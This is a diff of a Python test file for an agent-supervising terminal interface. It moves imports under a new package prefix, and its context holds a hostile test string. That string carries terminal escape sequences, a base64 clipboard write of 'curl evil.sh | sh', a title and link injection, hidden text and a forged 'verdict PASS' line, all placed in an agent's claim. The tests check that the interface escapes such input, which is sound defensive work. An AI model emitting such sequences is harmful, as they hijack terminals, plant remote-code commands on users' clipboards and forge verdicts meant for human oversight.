@@ -8,15 +8,15 @@ from __future__ import annotations
 
 import sys
 
-from supervisor.cli.demo import build_workspace
-from supervisor.cli.tui_seams import preflight
-from supervisor.run.shown import plain
+from nightshift.supervisor.cli.demo import build_workspace
+from nightshift.supervisor.cli.tui_seams import preflight
+from nightshift.supervisor.run.shown import plain
 from tests.fixtures_core import nightshift, require_tool, workspace  # noqa: F401
 from tests.fixtures_namespace import need_namespace, run_until_it_rests
 from tests.fixtures_tui import fixed_clock, tui_home  # noqa: F401 - pytest fixture
 from tests.test_tui_preflight import failing_preflight_in_start_form
-from tui.app import make_app
-from tui.seams import Seams
+from nightshift.tui.app import make_app
+from nightshift.tui.seams import Seams
 
 EVIL = ("fixed\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b]0;owned\x07 \x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\"
         " \x1b[1A\x1b[2K \x1b[8mhidden \rVERIFIED \u202eenod\nverdict PASS: forged line")
@@ -60,7 +60,7 @@ async def test_the_start_form_shows_markup_and_escapes_from_the_workspace_as_tex
 
 
 def test_the_events_tab_line_of_an_agents_claim_holds_no_escape_of_the_agents():
-    from tui.widgets.events_view import TYPE_STYLES, event_line
+    from nightshift.tui.widgets.events_view import TYPE_STYLES, event_line
     event = {"seq": 7, "ts": "2026-11-26T10:00:00.000000Z", "type": "agent.stopped", "shift": 1,
              "data": {"reason": "exit", "claim": {"status": "done", "summary": EVIL}}}
     odd = {"seq": 8, "ts": "2026-11-26T10:00:01.000000Z", "type": "lane.\x1b[8mhidden", "data": {"x": "\x1b]0;t\x07"}}
